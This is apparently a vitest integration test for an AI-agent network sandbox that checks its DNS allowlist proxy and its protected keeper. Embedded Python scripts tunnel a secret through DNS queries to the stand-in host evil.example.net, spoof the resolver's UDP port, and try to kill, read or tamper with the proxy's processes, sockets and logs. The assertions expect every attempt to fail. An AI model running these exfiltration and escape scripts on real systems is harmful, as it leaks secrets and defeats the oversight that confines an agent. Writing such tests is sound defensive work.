import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startNamespaceLab, type NamespaceLab } from "../../lab/namespace.ts";
import { readDecisions, runBox } from "./netns-box.ts";
import { parseOutcomes, reachArgv } from "./reach.ts";

// The DNS wall and its keeper in a real start: cases 11, 14, 15, 23, 24 and 27, with the recording resolver as witness.

const LIST = { allowed: ["github.com", "*.wild.lab-names.example", "rotating.lab-names.example", "10.9.8.7:5432"], critical: ["github.com"] };
const PYTHON = "/usr/bin/python3";
const SECRET = "s3cret";

/** Asks for names that carry a secret in every way that a shell has, and continues what the proxy began. */
const TUNNELS = `
import os, socket, struct, subprocess, sys
def question(name, kind=1):
    return struct.pack("!HHHHHH", 4660, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
answers = []
def udp(address, port, name, kind=1, source=0):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3)
        if source: s.bind(("", source))
        s.connect((address, port)); s.send(question(name, kind)); reply = s.recv(4096)
        if reply[3] & 15 == 0 and struct.unpack("!H", reply[6:8])[0] > 0: answers.append((address, port, name))
    except OSError as error: pass
    finally: s.close()
def tcp(address, port, name):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.3); s.connect((address, port)); q = question(name)
        s.send(struct.pack("!H", len(q)) + q); reply = s.recv(4096)
        if len(reply) > 9 and reply[5] & 15 == 0 and struct.unpack("!H", reply[8:10])[0] > 0: answers.append((address, port, name))
    except OSError as error: pass
    finally: s.close()
n = 0
def name():
    global n; n += 1
    return "${SECRET}%d.evil.example.net" % n
for address in ("8.8.8.8", "1.1.1.1", "172.30.0.1", "fd00:1ab::1", "2001:4860:4860::8888", "127.0.0.11", "140.82.112.3", "127.0.0.1", "::1"):
    for port in (53, 853, 443, 5353, 40053):
        udp(address, port, name()); tcp(address, port, name())
for kind in (16, 28, 5, 255, 12, 65, 10): udp("127.0.0.1", 53, name(), kind)
udp("127.0.0.1", 53, "${SECRET}.github.com"); udp("127.0.0.1", 53, "${SECRET}" + "x" * 40 + ".github.com.evil.example.net")
# The kernel remembers each question of the proxy for a while; whoever has the same port continues it.
ports = sorted(set(int(p) for p in os.environ.get("PORTS", "").split() if p))
for source in range(32768, 61000, 3 if not ports else 28300): udp("172.30.0.1", 53, name(), 1, source)
for command in (["dig", "+time=1", "+tries=1", "@8.8.8.8", name()], ["dig", "+tcp", "+time=1", "+tries=1", "@172.30.0.1", name()], ["getent", "hosts", name()]):
    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(len(answers), answers[:3], n)
`;

/** Binds a UDP port beside whoever has it and answers there; then says what a client heard and what became of the answer. */
const IMPOSTOR = `
import socket, sys
address, port = sys.argv[1], int(sys.argv[2])
family = socket.AF_INET6 if ":" in address else socket.AF_INET
fake = socket.socket(family, socket.SOCK_DGRAM); fake.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); fake.settimeout(1)
try: fake.bind((address, port))
except OSError: print("not bound"); sys.exit()
client = socket.socket(family, socket.SOCK_DGRAM); client.settimeout(1); client.connect((address, port)); client.send(b"question")
try: data, source = fake.recvfrom(100)
except TimeoutError: print("nothing came"); sys.exit()
try: fake.sendto(b"forged", source[:2])
except OSError as error: print(type(error).__name__, end=" ")
try: print(client.recv(100).decode())
except OSError as error: print(type(error).__name__)
`;

describe("the names of a box", () => {
  let lab: NamespaceLab;
  beforeAll(async () => {
    lab = await startNamespaceLab();
  });
  afterEach(() => lab.control.reset());
  afterAll(() => lab.stop());

  it.each(["127.0.0.1", "::1"])("are answered by nobody who binds the port of the box's resolver at %s beside it", async (address) => {
    const run = await runBox(lab, { ...LIST, command: ["sh", "-c", `for port in 53 5300; do ${PYTHON} -c "$0" ${address} $port; done`, IMPOSTOR] });
    const [atResolver, elsewhere] = run.stdout.split("\n");
    expect(atResolver).toMatch(/^(?:PermissionError TimeoutError|nothing came|not bound)$/);
    expect(elsewhere).toBe("forged");
  });

  it("leave no trace at any resolver when they are not allowed, however they are asked for", async () => {
    const sibling = await lab.addBox();
    await sibling.exec([PYTHON, "-c", TUNNELS], { uid: 1000, gid: 1000, env: { PORTS: "1" }, timeoutMs: 150_000 });
    const seen = async (): Promise<string[]> => (await lab.control.questions()).map(({ name }) => name.toLowerCase()).filter((name) => name.includes(SECRET));
    expect((await seen()).length).toBeGreaterThan(10);
    await lab.control.reset();
    const run = await runBox(lab, { ...LIST, command: [PYTHON, "-c", TUNNELS] });
    expect(run.stdout).toMatch(/^0 \[\] \d+\n$/);
    expect(await seen()).toEqual([]);
    // Its own resolver works, and nothing but it was asked by the box.
    expect((await lab.control.questions({ name: "github.com" })).length).toBeGreaterThan(0);
    expect(readDecisions(run).some(({ host, reason }) => host.includes(SECRET) && reason === "not_allowed")).toBe(true);
  });

  it("of a wildcard are opened by the answer itself, before the client can act on it", async () => {
    const script = "for i in 1 2 3 4 5 6 7 8 9 10; do curl -sS --cacert /etc/ssl/certs/ca-certificates.crt --max-time 5 -o /dev/null -w '%{http_code} ' https://w$i.wild.lab-names.example/ || echo failed; done";
    await lab.control.setDns(Object.fromEntries(Array.from({ length: 10 }, (_, index) => [`w${index + 1}.wild.lab-names.example`, { a: [`93.184.217.${100 + index}`], aaaa: [], ttl: 5 }])));
    const before = reachArgv(["tcp:93.184.217.100:443"]);
    const run = await runBox(lab, { ...LIST, command: ["sh", "-c", `${before.map((word) => `'${word}'`).join(" ")}; ${script}`] });
    const [first = "", rest] = run.stdout.split("\n");
    expect(parseOutcomes(first).map(({ outcome }) => outcome)).toEqual(["ECONNREFUSED"]);
    expect(rest).toBe("200 ".repeat(10));
  });

  it("that rotate with a TTL of 5 s work at the first request, each time", async () => {
    await lab.control.setDns({ "rotating.lab-names.example": { a: ["93.184.217.1", "93.184.217.2"], aaaa: [], ttl: 5, rotate: "one" } });
    const script = "for i in 1 2 3; do curl -sS --cacert /etc/ssl/certs/ca-certificates.crt --max-time 5 -o /dev/null -w '%{http_code} %{remote_ip}\\n' https://rotating.lab-names.example/; sleep 5.5; done";
    const run = await runBox(lab, { ...LIST, command: ["sh", "-c", script] });
    const lines = run.stdout.trim().split("\n");
    expect(lines.map((line) => line.split(" ")[0])).toEqual(["200", "200", "200"]);
    expect(new Set(lines.map((line) => line.split(" ")[1])).size).toBeGreaterThan(1);
  });

  it("are answered again after the resolver was killed from outside, and its port is never free", async () => {
    // As the agent: nobody but the killer below has the right.
    const script = `
import os, socket, subprocess, time
def pid(): return subprocess.run(["pgrep", "-u", "64990", "-f", "proxy.mjs --udp4", "-x", "-n"], capture_output=True, text=True).stdout
bound = 0; answered = 0; deadline = time.time() + 4
for _ in range(400):
    for family, kind, address in ((socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1"), (socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")):
        s = socket.socket(family, kind)
        try: s.bind((address, 53)); bound += 1
        except OSError: pass
        s.close()
    time.sleep(0.01)
print("bound", bound)
print("code", subprocess.run(["curl", "-sS", "--retry", "5", "--retry-all-errors", "--retry-delay", "1", "-m", "20", "--cacert", "/etc/ssl/certs/ca-certificates.crt", "-o", "/dev/null", "-w", "%{http_code}", "https://github.com/"], capture_output=True, text=True).stdout)
`;
    const killed: Promise<unknown>[] = [];
    const run = await runBox(lab, {
      ...LIST,
      command: [PYTHON, "-c", script],
      onEvent: (event) => {
        if (event.event === "ready") killed.push(lab.exec(["sh", "-c", KILL_PROXY, "sh", lab.boxNamespace]));
      },
    });
    expect(await Promise.all(killed)).toMatchObject([{ stdout: "killed\n" }]);
    expect(run.stdout).toBe("bound 0\ncode 200\n");
    expect(run.logs["decisions.jsonl"]).toContain('"event":"proxy-restarted"');
  });

  it("tell of refused packets who sent them, and how to allow it", async () => {
    const run = await runBox(lab, { ...LIST, command: ["sh", "-c", "for i in 1 2 3 4 5 6; do curl -sS -m 3 https://93.184.220.34/; sleep 0.5; done; true"] });
    const packets = readDecisions(run).filter(({ protocol, host }) => protocol === "address" && host === "93.184.220.34");
    expect(packets).toContainEqual(
      expect.objectContaining({ port: 443, type: "tcp", action: "deny", reason: "not_allowed", hint: "agentbox policy allow 93.184.220.34", client: { uid: 1000, pid: null, command: null } }),
    );
  });

  it.each([
    ["the agent", { uid: 1000, gid: 1000, home: "/nonexistent" }, false],
    ["root without capabilities", { uid: 0, gid: 0, home: "/nonexistent" }, true],
  ])("cannot be changed by %s: sockets, log and processes of keeper and proxy are out of reach", async (_case, user, admin) => {
    const script = `
import os, signal, socket
base = "/var/lib/agentbox-keeper"
def attempt(name, action):
    try: print(name, "DONE", action())
    except OSError as error: print(name, type(error).__name__)
attempt("list", lambda: os.listdir(base))
attempt("list run", lambda: os.listdir(base + "/run"))
attempt("log", lambda: open(base + "/log/decisions.jsonl", "a"))
for name in ("control", "proxy"):
    attempt(name, lambda: socket.socket(socket.AF_UNIX).connect(base + "/run/" + name + ".sock"))
found = 0
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid(): continue
    uid = os.stat("/proc/" + pid).st_uid
    if open("/proc/" + pid + "/cmdline").read().find(".mjs") < 0: continue
    status = open("/proc/" + pid + "/status").read()
    real = int(status.split("Uid:")[1].split()[0])
    if real not in (64990, 64991): continue
    found += 1
    attempt("kill", lambda: os.kill(int(pid), signal.SIGKILL))
    attempt("memory", lambda: open("/proc/" + pid + "/mem", "rb"))
    attempt("descriptors", lambda: os.listdir("/proc/" + pid + "/fd"))
print("found", found >= 2)
`;
    const run = await runBox(lab, { ...LIST, spec: { user, admin }, command: [PYTHON, "-c", script] });
    expect(run.stdout).not.toContain("DONE");
    expect(run.stdout).toContain("list PermissionError");
    expect(run.stdout).toContain("control PermissionError");
    expect(run.stdout).toContain("kill PermissionError");
    expect(run.stdout).toContain("found True");
  });
});

/** Ends the resolver of the box whose network namespace is named, and nobody else's. */
const KILL_PROXY = `
sleep 0.5
for pid in $(ip netns pids "$1"); do
  case $(tr '\\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null) in *node*proxy.mjs*--udp4*) case $(cat "/proc/$pid/comm") in sh) ;; *) kill -9 "$pid" && echo killed ;; esac ;; esac
done
`;
